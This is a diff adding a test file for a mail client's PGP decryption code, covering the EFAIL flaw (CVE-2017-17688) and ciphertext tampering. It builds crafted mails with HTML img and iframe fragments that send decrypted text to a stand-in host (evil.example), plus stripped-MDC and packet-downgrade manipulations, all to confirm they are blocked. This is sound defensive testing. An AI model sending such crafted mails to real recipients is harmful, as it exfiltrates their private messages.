@@ -1,0 +1,146 @@
+import * as openpgp from 'openpgp';
+import { describe, expect, it } from 'vitest';
+import { parseEntity } from '../../src/mail/message.ts';
+import { viewOf } from '../../src/mail/view.ts';
+import { type OpenedMail, openMail } from '../../src/pgp/open.ts';
+import { packetsOf } from '../../src/pgp/packets.ts';
+import { makeParty } from '../support/party.ts';
+
+const AT = Date.parse('2026-09-07T09:12:00Z');
+const list = await makeParty('security@orbit.example');
+const rae = await makeParty('rae@research.example');
+const listSecret = await openpgp.readPrivateKey({ armoredKey: list.secret });
+const SECRET = 'the-secret-words';
+
+const open = (...lines: string[]) =>
+  openMail(
+    {
+      raw: Buffer.from(['From: eve@evil.example', 'Subject: x', ...lines, ''].join('\r\n')),
+      secrets: [listSecret.write()],
+      at: AT,
+    },
+    async () => [],
+  );
+const armor = async (text: string) =>
+  openpgp.encrypt({
+    message: await openpgp.createMessage({ text }),
+    encryptionKeys: await openpgp.readKey({ armoredKey: list.public }),
+    signingKeys: await openpgp.readPrivateKey({ armoredKey: rae.secret }),
+    date: new Date(AT),
+  });
+const armored = (await armor(SECRET)).replaceAll(/\r?\n/g, '\r\n');
+const octets = Buffer.from(/\r\n\r\n([A-Za-z0-9+/=\r\n]+?)(\r\n=....)?\r\n-----END/.exec(armored)?.[1] ?? '', 'base64');
+/** One session key for the list, then the data. */
+const [sessionKey, data] = [...packetsOf(octets)].map(({ start, end }) => octets.subarray(start, end)) as [Buffer, Buffer];
+const pgpMime = [
+  'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e',
+  '',
+  ...['--e', 'Content-Type: application/pgp-encrypted', '', 'Version: 1'],
+  ...['--e', 'Content-Type: application/octet-stream', '', armored, '--e--'],
+];
+const inline = ['Content-Type: text/plain', '', armored];
+const file = ['Content-Type: application/octet-stream; name="a.txt.pgp"', '', armored];
+const html = (words: string) => ['Content-Type: text/html', '', words];
+const many = (kind: string, ...parts: string[][]) => [
+  `Content-Type: multipart/${kind}; boundary=m`,
+  '',
+  ...parts.flatMap((part) => ['--m', ...part]),
+  '--m--',
+];
+const contentOf = ({ content }: OpenedMail) => Buffer.from(content).toString('latin1');
+
+describe('what was decrypted never stands beside HTML that came in clear (CVE-2017-17688)', () => {
+  const before = html('<img src="https://evil.example/?');
+  const after = html('">');
+  it.each([
+    ['PGP/MIME between two parts', many('mixed', before, pgpMime, after)],
+    ['PGP/MIME after a part', many('mixed', before, pgpMime)],
+    ['PGP/MIME in multipart/related', many('related', html('see <iframe src="cid:target"></iframe>'), pgpMime)],
+    ['armor in a text between two parts', many('mixed', before, inline, after)],
+    ['a file between two parts', many('mixed', before, file, after)],
+    ['an alternative', many('alternative', inline, html('see <img src="https://evil.example/?">'))],
+    ['text/enriched', many('mixed', ['Content-Type: text/enriched', '', '<x-img>evil.example'], pgpMime)],
+    ['words around armor in HTML', html(`see <img src="https://evil.example/"><pre>${armored}</pre>`)],
+  ])('%s', async (_, lines) => {
+    const opened = await open(...lines);
+    const { text, files } = viewOf(parseEntity(opened.content));
+    expect([text, ...files.map(({ bytes }) => Buffer.from(bytes).toString())].join('\n')).toContain(SECRET);
+    expect(contentOf(opened)).not.toMatch(/evil\.example|cid:target|<img|">/);
+    expect(opened).toMatchObject({ allEncrypted: false, signer: null, warnings: expect.arrayContaining(['unprotected-text']) });
+    expect(opened.aside).not.toEqual([]);
+    expect(Buffer.concat(opened.aside).toString()).not.toContain(SECRET);
+  });
+
+  it('armor inside of a tag is not looked for', async () => {
+    const opened = await open(...html(`<img src="https://evil.example/?\r\n${armored}\r\n">`));
+    expect(opened).toMatchObject({ encrypted: false });
+    expect(contentOf(opened)).not.toContain(SECRET);
+  });
+
+  it('HTML in clear stays where it is in a mail of which nothing was encrypted', async () => {
+    const signed = await openpgp.sign({
+      message: await openpgp.createCleartextMessage({ text: 'signed' }),
+      signingKeys: await openpgp.readPrivateKey({ armoredKey: rae.secret }),
+      date: new Date(AT),
+    });
+    const opened = await open(...many('mixed', html('<p>hello</p>'), ['Content-Type: text/plain', '', signed]));
+    expect(contentOf(opened)).toContain('<p>hello</p>');
+  });
+});
+
+describe('a message that was tampered with is refused in every place where it may stand', () => {
+  const literal = Buffer.from([0xcb, 7, 0x75, 0, 0, 0, 0, 0, 0x61]);
+  const body = data.subarray(data[1] === 0xff ? 6 : (data[1] ?? 0) < 192 ? 2 : 3);
+  const packet = (tag: number, content: Uint8Array) => {
+    const head = Buffer.from([0xc0 | tag, 0xff, 0, 0, 0, 0]);
+    head.writeUInt32BE(content.length, 2);
+    return Buffer.concat([head, content]);
+  };
+  const flipped = Buffer.from(octets);
+  flipped[octets.length - 40] = (octets[octets.length - 40] ?? 0) ^ 1;
+  const harms: readonly [string, Uint8Array][] = [
+    ['one bit of the data', flipped],
+    ['its last octet gone', octets.subarray(0, -1)],
+    ['its MDC gone', Buffer.concat([sessionKey, packet(18, body.subarray(0, -22))])],
+    ['twice', Buffer.concat([octets, octets])],
+    ['its data twice', Buffer.concat([sessionKey, data, data])],
+    ['a literal before it', Buffer.concat([literal, octets])],
+    ['a literal after it', Buffer.concat([octets, literal])],
+    ['a literal between', Buffer.concat([sessionKey, literal, data])],
+    ['two literals', Buffer.concat([literal, literal])],
+    ['as data without integrity (tag 9)', Buffer.concat([sessionKey, packet(9, body.subarray(1))])],
+    ['as AEAD data of GnuPG (tag 20)', Buffer.concat([sessionKey, packet(20, body)])],
+    ['without its session key', Buffer.from(data)],
+  ];
+  const places: readonly [string, (bytes: Uint8Array) => string[]][] = [
+    [
+      'PGP/MIME',
+      (bytes) => [
+        'Content-Type: multipart/encrypted; boundary=e',
+        '',
+        ...['--e', 'Content-Type: application/pgp-encrypted', '', 'Version: 1'],
+        ...['--e', 'Content-Type: application/octet-stream', 'Content-Transfer-Encoding: base64', '', base64(bytes), '--e--'],
+      ],
+    ],
+    ['inline', (bytes) => ['', `-----BEGIN PGP MESSAGE-----\r\n\r\n${base64(bytes)}\r\n-----END PGP MESSAGE-----`]],
+    [
+      'attached',
+      (bytes) =>
+        many(
+          'mixed',
+          ['Content-Type: text/plain', '', 'see the file'],
+          ['Content-Type: application/octet-stream; name="a.gpg"', 'Content-Transfer-Encoding: base64', '', base64(bytes)],
+        ),
+    ],
+  ];
+  for (const [place, wrap] of places)
+    it.each(harms)(`${place}: %s`, async (_, harmed) => {
+      await expect(open(...wrap(harmed))).rejects.toMatchObject({ reason: 'cannot-open', hint: undefined });
+    });
+});
+
+function base64(bytes: Uint8Array): string {
+  return Buffer.from(bytes)
+    .toString('base64')
+    .replace(/.{76}(?=.)/g, '$&\r\n');
+}
